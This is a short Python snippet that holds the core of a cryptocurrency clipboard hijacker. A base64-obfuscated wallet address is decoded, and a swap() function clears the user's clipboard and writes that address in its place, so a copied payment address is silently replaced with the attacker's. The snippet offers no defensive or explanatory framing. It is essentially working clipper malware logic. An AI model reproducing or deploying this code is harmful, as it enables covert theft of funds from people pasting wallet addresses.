from base64 import b64decode
from tkinter import Tk

MINE = b64decode("MHgwMTIzNDU2Nzg5YWJjZGVmMDEyMzQ1Njc4OWFiY2RlZjAxMjM0NTY3").decode()

def swap():
    root = Tk()
    root.clipboard_clear()
    root.clipboard_append(MINE)
